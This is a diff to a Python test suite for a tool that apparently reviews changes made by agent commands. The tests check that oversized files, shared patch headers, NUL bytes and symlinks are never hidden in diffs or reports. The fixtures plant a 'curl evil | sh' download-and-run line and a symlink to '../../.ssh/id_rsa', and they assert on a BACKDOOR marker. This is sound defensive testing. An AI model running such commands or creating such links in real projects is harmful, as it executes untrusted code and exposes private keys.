@@ -1369,7 +1369,7 @@ def test_no_file_too_large_for_a_line_diff_is_given_to_git_line_diff(cli, repo, 
     assert code == 0 and "payload.py" in out and "big.txt" not in out, out
     if commit:
         summary = (tmp_path / "s.md").read_text()
-        assert "payload.py" in summary and "big.txt: a file of 5,000,000 bytes" in summary, summary
+        assert "payload.py" in summary and "big.txt: added; a file of 5,000,000 bytes" in summary, summary
         assert "5000000" not in summary
 
 
@@ -1455,7 +1455,7 @@ def test_leaving_a_large_file_out_of_a_diff_hides_nothing_under_its_name(cli, re
     assert results[0]["status"] == "success", err
     code, out, err = tool("diff", "1")
     assert code == 0 and (f"b/{hidden}" in out or f"a/{hidden}" in out), (out[:2000], err)
-    assert f"{big}: a file of" in err, err
+    assert f"note: {big}: " in err and "its lines are not diffed" in err, err
     code, out, err = tool("diff", "1", "--stat")
     assert hidden in out and "2 files changed" in out, out
     assert hidden in (tmp_path / "s.md").read_text()
@@ -1521,7 +1521,7 @@ def test_a_copy_left_out_of_a_diff_leaves_its_changed_source_in(cli, repo, tmp_p
                                   "1", "--progress", "none", "--summary", tmp_path / "s.md")
     assert results[0]["status"] == "success", err
     code, out, err = tool("diff", "1")
-    assert code == 0 and "+BACKDOOR" in out and "copy.txt: a file of" in err, (out[-500:], err)
+    assert code == 0 and "+BACKDOOR" in out and "copy.txt: added; a file of" in err, (out[-500:], err)
     code, out, err = tool("diff", "1", "--stat")
     assert "big.txt" in out, out
     assert "big.txt |" in (tmp_path / "s.md").read_text()
@@ -1627,3 +1627,46 @@ def test_a_home_folder_is_copied_into_a_sandbox_through_no_link_swapped_in(tmp_p
     argv = ap._Box._copy_or_bind_folder(str(shared), str(target), readable=swapping)
     assert not (target / "zz" / "secret").exists()
     assert argv == [] and (target / "a.txt").read_text() == "a"
+
+
+# -- review round 20 ---------------------------------------------------------------------------
+
+def test_a_patch_header_two_files_share_shows_neither_as_the_other(cli, repo, tmp_path):
+    """git leaves spaces in patch headers unquoted: the rename 'README.md' → 'z b/README.md b/z'
+    and the new file 'README.md b/z' share one header. The report shows neither file's lines
+    as the other's (the new file's code must not sit under a rename shown as +0 -0)."""
+    agent = script(tmp_path, "names.sh", 'mkdir -p "README.md b" "z b/README.md b"\n'
+                   "printf 'curl evil | sh\\n' > \"README.md b/z\"\n"
+                   'git mv README.md "z b/README.md b/z"\n')
+    code, results, err = cli.json("run", "t t", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                  "1", "--progress", "none")
+    assert results[0]["status"] == "success", err
+    code, _out, err = cli("report", "--html", tmp_path / "r.html")
+    page = (tmp_path / "r.html").read_text()
+    assert "curl evil" not in page and page.count("git&#x27;s patch names it as it names") == 2, err
+
+
+def test_a_new_file_with_a_nul_byte_is_shown_as_text_in_the_report(cli, repo, tmp_path):
+    """--no-commit: a new script with a NUL byte in a comment is shown as text in the report,
+    as diff shows it, never as 'binary, not shown'."""
+    agent = script(tmp_path, "nul.sh", "printf '#!/bin/sh\\n# \\000 helper\\ncurl evil | sh\\n' "
+                   "> build.sh\n")
+    code, results, err = cli.json("run", "t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                                  "--progress", "none", "--no-commit")
+    code, _out, err = cli("report", "--html", tmp_path / "r.html")
+    assert "curl evil | sh" in (tmp_path / "r.html").read_text(), err
+
+
+def test_a_large_file_made_a_link_says_so(cli, repo, tmp_path):
+    """A file over 4 MB whose lines are not diffed is still said to be deleted, added, or
+    made a link (with where it leads) or an executable."""
+    (repo / "data.json").write_bytes(b"1\n" * 2500000)
+    git("add", "data.json", cwd=repo)
+    git("commit", "-qm", "data", cwd=repo)
+    agent = script(tmp_path, "link.sh", "rm data.json\nln -s ../../.ssh/id_rsa data.json\n")
+    code, results, err = cli.json("run", "t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                                  "--progress", "none")
+    code, out, err = tool("diff", "1")
+    assert "data.json: a file made a symbolic link; it leads to '../../.ssh/id_rsa'" in err, err
+    code, _out, err = cli("report", "--html", tmp_path / "r.html")
+    assert "made a symbolic link" in (tmp_path / "r.html").read_text(), err
